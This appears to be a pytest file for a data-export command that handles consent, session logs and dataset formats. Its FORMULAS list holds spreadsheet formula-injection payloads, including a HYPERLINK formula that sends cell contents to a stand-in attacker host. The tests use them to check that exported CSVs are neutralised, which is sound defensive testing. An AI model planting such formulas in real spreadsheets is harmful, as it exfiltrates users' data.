"""``a3cp export``: captures that it exports, holds back, or reports as wrong.

Only the tests of Hugging Face's loader import it: it takes seconds, and every process of the run imports this module.
"""

from __future__ import annotations

import json
import os
import re
import stat
import unicodedata
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from contracts.rules.errors import ConfigurationError
from scripts.commands.session_logs import find_logs
from scripts.commands.verify import replay_record, verify_logs
from scripts.exports import sessions as sessions_module
from scripts.exports.choice import Choice
from scripts.exports.folder import MANIFEST
from tests.scripts.exports.roots import Roots, landmarks
from tests.scripts.test_cli import ROOT, a3cp
from tests.support.later import Later

pd = Later("pandas")

pytestmark = pytest.mark.filterwarnings("ignore:SymbolDatabase.GetPrototype:UserWarning")


def table(roots: Roots, form: str = "npy1662") -> pd.DataFrame:
    return pd.read_csv(roots.exports / form / "captures.csv", keep_default_na=False)


def test_the_captures_of_all_sessions_in_the_order_of_users_sessions_and_lines(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    sessions = [*sorted(roots.session("zoe") for _ in range(2)), roots.session("anna")]
    wanted = []
    for session, user in zip(sessions, ("zoe", "zoe", "anna"), strict=True):
        wanted.append([roots.capture(session, user_id=user) for _ in range(2)])
    assert roots.export("npy1662") == 0
    assert table(roots).record_id.tolist() == wanted[2] + wanted[0] + wanted[1]
    out = capsys.readouterr().out
    assert out == f"{roots.exports / 'npy1662'}: 6 captures of 3 sessions, written, consent unknown for 6\n"


def test_sessions_are_named_by_id_or_by_log_and_each_is_exported_once(roots: Roots) -> None:
    first, second, third = (roots.session() for _ in range(3))
    for session in (first, second, third):
        roots.capture(session)
    assert roots.export("npy1662", first, str(roots.log(second)), str(roots.log(first))) == 0
    assert set(table(roots).session_id) == {first, second}


def test_the_order_in_which_sessions_are_named_does_not_matter(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    sessions = sorted(roots.session() for _ in range(4))
    for session in sessions:
        roots.capture(session)
    assert roots.export("npy1662", *reversed(sessions)) == 0
    assert table(roots).session_id.tolist() == sessions
    assert roots.export("npy1662", *sessions) == 0
    assert "as before" in capsys.readouterr().out


def test_one_user_s_sessions_alone(roots: Roots) -> None:
    for user in ("anna", "zoe"):
        roots.capture(roots.session(user), user_id=user)
    assert roots.export("npy1662", user_id="zoe") == 0
    assert table(roots).user_id.tolist() == ["zoe"]


def test_logs_and_folders_may_be_links(roots: Roots, tmp_path: Path) -> None:
    sessions = [roots.session("ann"), roots.session("bob")]
    records = {roots.capture(session, user_id=user) for session, user in zip(sessions, ("ann", "bob"), strict=True)}
    log, disk = roots.log(sessions[0], "ann"), tmp_path / "disk"
    disk.mkdir()
    log.rename(disk / "kept.jsonl")
    log.symlink_to(disk / "kept.jsonl")
    users = roots.settings.log_root / "users"
    (users / "bob").rename(disk / "another name")
    (users / "bob").symlink_to(disk / "another name")
    elsewhere = tmp_path / "link.jsonl"
    elsewhere.symlink_to(roots.log(sessions[1], "bob"))
    named = [str(log), str(roots.log(sessions[1], "bob")), str(log.parent / ".." / "sessions" / log.name), sessions[0]]
    for chosen in ((), tuple(named)):
        assert roots.export("npy1662", *chosen, replace=True) == 0
        assert set(table(roots).record_id) == records
        assert verify_logs(roots.settings, chosen) == 0
    assert [path.name for path in find_logs(roots.settings.log_root, named)] == [log.name, f"{sessions[1]}.jsonl"]
    for session, user, record in zip(sessions, ("ann", "bob"), sorted(records), strict=True):
        assert find_logs(roots.settings.log_root, [session], user)
        assert replay_record(roots.settings, record) == 0


def test_a_link_of_another_name_is_the_log_that_it_leads_to(roots: Roots, tmp_path: Path) -> None:
    session = roots.session()
    roots.capture(session)
    link = tmp_path / "today.jsonl"
    link.symlink_to(roots.log(session))
    assert find_logs(roots.settings.log_root, [str(link)]) == [roots.log(session)]
    assert verify_logs(roots.settings, [link]) == 0


def test_the_same_features_twice_are_noted(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    members = landmarks(3, seed=7)
    records = [roots.capture(roots.session(user), members, user_id=user) for user in ("anna", "zoe")]
    assert roots.export("npy1662") == 0
    assert f"record {records[1]}: the same features as record {records[0]}" in capsys.readouterr().err
    assert verify_logs(roots.settings, []) == 0
    assert f"note: the same features: record {records[0]}, record {records[1]}" in capsys.readouterr().out


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077])
def test_folders_and_files_have_their_modes_whatever_the_umask_is(roots: Roots, mask: int) -> None:
    roots.capture(roots.session())
    before = os.umask(mask)
    try:
        assert roots.export("gislr") == 0
    finally:
        os.umask(before)
    for path in (roots.exports, *roots.exports.rglob("*")):
        assert stat.S_IMODE(path.stat().st_mode) == (0o750 if path.is_dir() else 0o640), path


@pytest.mark.parametrize("session", ["sess_0123456789abcdef", "no/such/log", "*", "", 300 * "a"])
def test_a_session_that_is_not_there_is_named(roots: Roots, session: str) -> None:
    roots.session()
    with pytest.raises(ConfigurationError, match=re.escape(f"{session}: there is no such")):
        find_logs(roots.settings.log_root, [session], None)


def test_another_user_s_session_is_not_found_for_a_user(roots: Roots) -> None:
    session = roots.session("anna")
    for name in (session, str(roots.log(session, "anna"))):
        with pytest.raises(ConfigurationError, match="of user zoe"):
            find_logs(roots.settings.log_root, [name], "zoe")
    with pytest.raises(ConfigurationError, match="--user"):
        find_logs(roots.settings.log_root, [], "*")


def test_a_bad_artifact_is_named_and_the_others_go_on(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    session = roots.session()
    bad, good, gone = (roots.capture(session) for _ in range(3))
    data = bytearray(roots.artifact(session, bad).read_bytes())
    data[-1] ^= 1
    roots.artifact(session, bad).write_bytes(data)
    roots.artifact(session, gone).unlink()
    assert roots.export("npy1662", session) == 1
    assert table(roots).record_id.tolist() == [good]
    shown = capsys.readouterr()
    assert f"record {bad}: the file's hash is" in shown.err
    assert f"record {gone}: the artifact does not exist" in shown.err
    assert "1 capture of 1 session, written" in shown.out and "2 FAILED" in shown.out


@pytest.mark.parametrize("line", [b"torn", b"no envelope\n"])
def test_a_line_that_cannot_be_read_may_withdraw_consent(
    roots: Roots, capsys: pytest.CaptureFixture[str], line: bytes
) -> None:
    broken, sound = roots.session(consent_given=True), roots.session()
    held, good = roots.capture(broken), roots.capture(sound)
    with roots.log(broken).open("ab") as log:
        log.write(line)
    assert roots.export("npy1662") == 1
    assert table(roots).record_id.tolist() == [good]
    shown = capsys.readouterr()
    assert "FAILED" in shown.err and f"{broken}.jsonl: line 3: " in shown.err
    assert f"held back  record {held}: without consent, perhaps" in shown.err
    assert roots.export("npy1662", choice=Choice(unknown=True, without_consent=True), replace=True) == 1
    assert set(table(roots).record_id) == {held, good}


def test_a_record_that_is_in_the_logs_twice_is_not_exported(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    first, second = roots.session(), roots.session()
    record = roots.capture(first)
    roots.capture(second, record_id=record.upper())
    good = roots.capture(second)
    assert roots.export("npy1662") == 1
    assert table(roots).record_id.tolist() == [good]
    assert capsys.readouterr().err.count("more than once") == 2


def test_a_capture_with_two_records_is_not_exported(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    session = roots.session()
    pair = [roots.capture(session, capture_id="c") for _ in range(2)]
    good = roots.capture(session)
    assert roots.export("npy1662") == 1
    assert table(roots).record_id.tolist() == [good]
    shown = capsys.readouterr()
    assert all(f"record {record}: its capture has more than one event" in shown.err for record in pair)


def test_captures_without_consent_and_demonstrations_are_held_back_unless_asked_for(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    open_session, closed_session = roots.session(), roots.session(consent_given=False)
    unknown = roots.capture(open_session)
    refused = roots.capture(open_session, consent_given=False)
    demo = roots.capture(open_session, is_demo=True, consent_given=True)
    inherited = roots.capture(closed_session, consent_given=True)
    assert roots.export("npy1662") == 0
    assert table(roots).record_id.tolist() == [unknown]  # `Roots.export` asks for it
    shown = capsys.readouterr()
    for record, why in ((refused, "without consent"), (inherited, "without consent"), (demo, "a demonstration")):
        assert f"held back  record {record}: {why}" in shown.err
    assert "3 held back" in shown.out
    assert not any(record in str(path) for record in (refused, inherited, demo) for path in roots.exports.rglob("*"))

    assert roots.export("npy1662", choice=Choice(unknown=True, without_consent=True, demos=True), replace=True) == 0
    rows = table(roots).set_index("record_id")
    assert set(rows.index) == {unknown, refused, demo, inherited}
    assert rows.consent_given.astype(str).to_dict() == {
        unknown: "",
        refused: "false",
        demo: "true",
        inherited: "false",
    }


def test_captures_with_unknown_consent_are_held_back_unless_asked_for(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    known, silent = roots.session(consent_given=True), roots.session()
    given, unknown, own = roots.capture(known), roots.capture(silent), roots.capture(silent, consent_given=True)
    demo = roots.capture(silent, is_demo=True)
    assert roots.export("npy1662", choice=Choice()) == 0
    assert set(table(roots).record_id) == {given, own}
    told = capsys.readouterr().err
    assert f"held back  record {unknown}: consent unknown" in told
    assert f"held back  record {demo}: a demonstration" in told  # which --include-unknown would not export
    assert roots.export("npy1662", choice=Choice(unknown=True), replace=True) == 0
    assert set(table(roots).record_id) == {given, own, unknown}


@pytest.mark.parametrize("said", ["consent.withdrawn", "capture.reviewed"])
def test_a_withdrawal_while_the_export_runs_counts(
    roots: Roots, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    session = roots.session()
    first, last = roots.capture(session), roots.capture(session, landmarks(2))
    load = sessions_module.load_artifact

    def loads(event: Any, artifacts: Any) -> Any:
        if event.record_id == last:
            roots.tell(session, said, first)
        return load(event, artifacts)

    monkeypatch.setattr(sessions_module, "load_artifact", loads)
    withdrawn = said == "consent.withdrawn"
    assert roots.export("npy1662") == withdrawn
    told = f"a log changed while the export ran: capture c-{first}: consent was withdrawn; export again"
    assert (told in capsys.readouterr().out) is withdrawn
    assert (roots.exports / "npy1662").exists() is not withdrawn


def test_consent_is_withdrawn_by_one_more_event(roots: Roots) -> None:
    session = roots.session(consent_given=True)
    kept, withdrawn = roots.capture(session), roots.capture(session)
    assert roots.export("npy1662") == 0
    roots.say(session, capture_id=f"c-{withdrawn}", consent_given=False)
    assert roots.export("npy1662", replace=True) == 0
    assert table(roots).record_id.tolist() == [kept]
    assert not list(roots.exports.rglob(f"*{withdrawn}*"))


def test_a_take_of_a_study_names_the_study_and_the_prompt_that_was_shown(roots: Roots) -> None:
    session = roots.session()
    take = roots.capture(
        session, annotation={"intent": "drink", "study": "daily-care", "prompt": "p1", "resend_of": "c0"}
    )
    roots.tell(session, "capture.relabelled", take, intent="eat")
    roots.capture(session, annotation={"intent": "nod"})
    assert roots.export("npy1662") == 0
    columns = ["intent", "study", "prompt", "resend_of"]
    assert table(roots)[columns].to_numpy().tolist() == [["eat", "daily-care", "p1", "c0"], ["nod", "", "", ""]]
    assert roots.export("npy1662", choice=Choice.of(unknown=True, studies=["daily-care", "x"]), replace=True) == 0
    assert table(roots).record_id.tolist() == [take]
    assert "of the study daily-care or x" in (roots.exports / "npy1662" / "DATASHEET.md").read_text("utf-8")


def test_a_capture_s_own_gesture_comes_before_its_session_s(roots: Roots) -> None:
    session = roots.session(training_intent_label="wave")
    roots.capture(session)
    roots.capture(session, annotation={"intent": 'say "no", now'})
    roots.capture(roots.session("anna"), user_id="anna")
    assert roots.export("npy1662") == 0
    assert table(roots).intent.tolist() == ["", "wave", 'say "no", now']


@pytest.mark.parametrize("by_client", [True, False])
@pytest.mark.parametrize("source", ["session_manager", "x"])
def test_a_client_s_start_relabels_no_session_and_gives_no_consent(
    roots: Roots, capsys: pytest.CaptureFixture[str], source: str, by_client: bool
) -> None:
    for session in (roots.session(training_intent_label="wave"), roots.session(device_id="d")):
        roots.capture(session)
        start = {"event": "session.start", "source": source, "consent_given": True, "is_demo": False}
        roots.say(session, by_client=by_client, **start, training_intent_label="evil")
        roots.say(session, training_intent_label="evil", consent_given=True, capture_id="c")
        roots.capture(session)
    assert roots.export("npy1662") == 0
    rows = table(roots)
    assert sorted(rows.intent) == ["", "", "wave", "wave"]
    assert set(rows.consent_given) == set(rows.is_demo) == {""}
    assert capsys.readouterr().err.count("not heeded") == (2 if by_client else 0)


def test_a_session_start_that_a_client_appended_is_ignored(roots: Roots) -> None:
    session = roots.session()
    roots.say(session, by_client=True, event="session.start", source="session_manager", training_intent_label="evil")
    roots.say(session, event="session.start", source="session_manager", training_intent_label="wave")
    roots.capture(session)
    assert roots.export("npy1662") == 0
    assert table(roots).intent.tolist() == ["wave"]


def test_a_client_s_reference_relabels_no_capture_and_adds_none(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    session = roots.session(training_intent_label="wave")
    ours, theirs = roots.capture(session), str(uuid4())
    for record in (ours, theirs):
        roots.capture(session, record_id=record, by_client=True, annotation={"intent": "evil"})
    assert roots.export("npy1662") == 0
    assert table(roots)[["record_id", "intent"]].to_numpy().tolist() == [[ours, "wave"]]
    assert capsys.readouterr().err.count("not heeded") == 2


def test_any_event_under_any_name_withdraws_consent(roots: Roots) -> None:
    session = roots.session(consent_given=True)
    kept, withdrawn = roots.capture(session), roots.capture(session)
    names = {"event": "session.start", "source": "session_manager", "raw_features_ref": {}}
    roots.say(session, by_client=True, **names, capture_id=f"c-{withdrawn}", consent_given=False)
    assert roots.export("npy1662") == 0
    assert table(roots).record_id.tolist() == [kept]


@pytest.mark.parametrize("empty", ["", " ", "\t\u3000"])
def test_an_empty_gesture_counts_as_none(roots: Roots, empty: str) -> None:
    for session in (roots.session(training_intent_label="wave"), roots.session(training_intent_label=empty)):
        roots.capture(session, annotation={"intent": empty})
    assert roots.export("gislr") == 0
    assert sorted(table(roots, "gislr").intent) == ["", "wave"]
    signs = json.loads((roots.exports / "gislr/sign_to_prediction_index_map.json").read_bytes())
    assert signs == {"wave": 0}


def test_one_name_is_one_sign_however_it_was_typed(roots: Roots) -> None:
    session = roots.session(training_intent_label="caf\u00e9")
    roots.capture(session)
    roots.capture(session, annotation={"intent": "cafe\u0301"})
    assert roots.export("gislr") == 0
    assert set(table(roots, "gislr").intent) == {"caf\u00e9"}
    signs = json.loads((roots.exports / "gislr/sign_to_prediction_index_map.json").read_bytes())
    assert signs == {"caf\u00e9": 0}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
    "\ufeff=1", "\u200b=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\u22121", "'=1", "x;=1",
    "x\n=1", "x\t=1", "x;\u200b+1",
]  # fmt: skip


def test_no_cell_is_a_formula_and_the_labels_are_whole_beside_the_tables(roots: Roots) -> None:
    session = roots.session()
    for label in FORMULAS:
        roots.capture(session, annotation={"intent": label}, device_id="-1")
    assert roots.export("gislr") == 0
    folder = roots.exports / "gislr"
    signs = json.loads((folder / "sign_to_prediction_index_map.json").read_bytes())
    for path, column in (("captures.csv", "intent"), ("train.csv", "sign")):
        rows = pd.read_csv(folder / path, keep_default_na=False, dtype=str)
        assert set(rows[column]) == set(signs) and len(rows) == len(FORMULAS)
        for cell in rows.to_numpy().ravel():
            for piece in re.split(r"[;\n\t]", cell):
                first = unicodedata.normalize("NFKC", piece.strip("\u200b\ufeff\u00a0 \r\t\n"))[:1]
                assert not first or first not in "=+-@\u2212", cell
            assert cell[:1] not in ("\t", "\r", "\n")
    documents = [json.loads(path.read_bytes()) for path in (folder / "metadata").iterdir()]
    assert sorted(document["intent"] for document in documents) == sorted(FORMULAS)


def test_any_gesture_s_name_is_one_cell_of_one_row(roots: Roots) -> None:
    names = ["a\rb", "a\r\nb", "a\nb", "a\r", 'a","b', " a ", "é\u2028", "a\0b"]
    session = roots.session()
    for name in names:
        roots.capture(session, annotation={"intent": name})
    roots.say(session, event="session.start", source="session_manager", training_intent_label="half of a pair: X")
    log = roots.log(session)
    log.write_bytes(log.read_bytes().replace(b": X", rb": \ud83d"))
    roots.capture(session)
    assert roots.export("gislr") == 0
    for path, column in (("captures.csv", "intent"), ("train.csv", "sign")):
        read = pd.read_csv(roots.exports / "gislr" / path, keep_default_na=False)
        assert read[column].tolist() == [*names[:-1], "a\ufffdb", "half of a pair: ?"]


def test_the_same_export_again_is_as_before_and_another_is_refused(
    roots: Roots, capsys: pytest.CaptureFixture[str]
) -> None:
    session = roots.session()
    roots.capture(session)
    assert roots.export("hf") == 0
    assert roots.export("hf") == 0
    assert "as before" in capsys.readouterr().out
    roots.capture(session)
    assert roots.export("hf") == 1
    assert "exists and differs" in capsys.readouterr().out
    assert roots.export("hf", replace=True) == 0
    assert len(pd.read_parquet(roots.exports / "hf" / "data")) == 2


def test_datasets_never_returns_the_rows_of_another_or_an_older_export(
    roots: Roots, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import datasets

    # one cache folder for all, as users have it
    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", tmp_path / "cache")
    datasets.disable_progress_bars()

    def loaded() -> list[str]:
        rows = datasets.load_dataset(str(roots.exports / "hf"), split="train")
        return sorted(str(record) for record in rows["record_id"])

    session, other = roots.session(), roots.session("zoe")
    kept, withdrawn = roots.capture(session), roots.capture(session)
    theirs = roots.capture(other, user_id="zoe")
    assert roots.export("hf", user_id="u1") == 0
    assert loaded() == sorted([kept, withdrawn])
    roots.say(session, capture_id=f"c-{withdrawn}", consent_given=False)
    assert roots.export("hf", user_id="u1", replace=True) == 0
    assert loaded() == [kept]
    roots.exports = roots.exports.parent / "elsewhere"
    assert roots.export("hf", user_id="zoe") == 0
    assert loaded() == [theirs]


def test_nothing_to_export_leaves_nothing(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    roots.capture(roots.session(), consent_given=False)
    assert roots.export("npy1662") == 1
    shown = capsys.readouterr()
    assert "nothing to export" in shown.out and "held back" in shown.err
    assert list(roots.exports.iterdir()) == []


def test_an_export_of_what_is_all_withdrawn_by_now_is_named(roots: Roots, capsys: pytest.CaptureFixture[str]) -> None:
    session = roots.session()
    roots.capture(session)
    assert roots.export("npy1662") == 0
    roots.say(session, consent_given=False)
    assert roots.export("npy1662", replace=True) == 1
    out = capsys.readouterr().out
    assert "nothing to export" in out and f"{roots.exports / 'npy1662'} is an earlier export, and stays\n" in out


def test_the_command_prints_its_result_or_one_line_with_the_reason(roots: Roots) -> None:
    session = roots.session()
    roots.capture(session)
    cwd = roots.exports.parent
    run = a3cp("export", "--format", "npy1662", session, cwd=cwd)
    assert run.returncode == 1 and "there is nothing to export" in run.stderr
    run = a3cp("export", "--format", "npy1662", "--include-unknown", session, cwd=cwd)
    assert (run.returncode, run.stderr) == (0, "")
    assert run.stdout == "exports/npy1662: 1 capture of 1 session, written, consent unknown for 1\n"
    for name in (b"out\xe9", b"out\x1b[31m", b"[red]"):
        run = a3cp(
            "export", "--format", "npy1662", "--include-unknown", "--output", os.fsdecode(name), session, cwd=cwd
        )
        assert run.returncode == 0 and run.stderr == "" and "1 capture of 1 session, written" in run.stdout
        assert "\x1b" not in run.stdout
    run = a3cp("export", "--format", "npy1662", "--output", "s3://bucket/exports", session, cwd=cwd)
    assert run.returncode == 2 and run.stderr.startswith("a3cp export: --output: 's3://bucket/exports' is a URL")
    assert not (cwd / "s3:").exists()
    run = a3cp("export", "--format", "pdf", session, cwd=cwd)
    assert (run.returncode, run.stderr) == (2, "a3cp export: --format: pose | gislr | npy1662 | eaf | hf, not 'pdf'\n")


def snippets() -> list[Any]:
    text = (ROOT / "scripts/exports/README.md").read_text()
    found = re.findall(r"^```python\n(.*?)^```", text.partition("## Train and test")[0], re.DOTALL | re.MULTILINE)
    assert len(found) == 4
    return found


@pytest.mark.parametrize("label", ["wave", "01", "1e5", "NA", "true"])
@pytest.mark.parametrize("number", range(4))
def test_the_readme_s_snippets_run_and_give_the_label_as_it_is(
    roots: Roots, monkeypatch: pytest.MonkeyPatch, number: int, label: str
) -> None:
    import datasets

    session = roots.session()
    roots.capture(session, landmarks(3, seed=1), annotation={"intent": label})
    source = snippets()[number]
    [form] = set(re.findall(r"exports/(\w+)", source))
    assert roots.export(form) == 0
    monkeypatch.chdir(roots.exports.parent)
    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", roots.exports.parent / "cache")
    names: dict[str, Any] = {}
    exec(compile(source, f"README.md, {form}", "exec"), names)
    assert names["label"] == label
    assert names["frames"] == 3


def test_every_file_of_an_export_is_in_its_manifest(roots: Roots) -> None:
    roots.capture(roots.session())
    assert roots.export("gislr") == 0
    folder = roots.exports / "gislr"
    there = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
    manifest = pd.read_json(folder / MANIFEST, typ="series")
    assert set(manifest["files"]) == there - {MANIFEST}
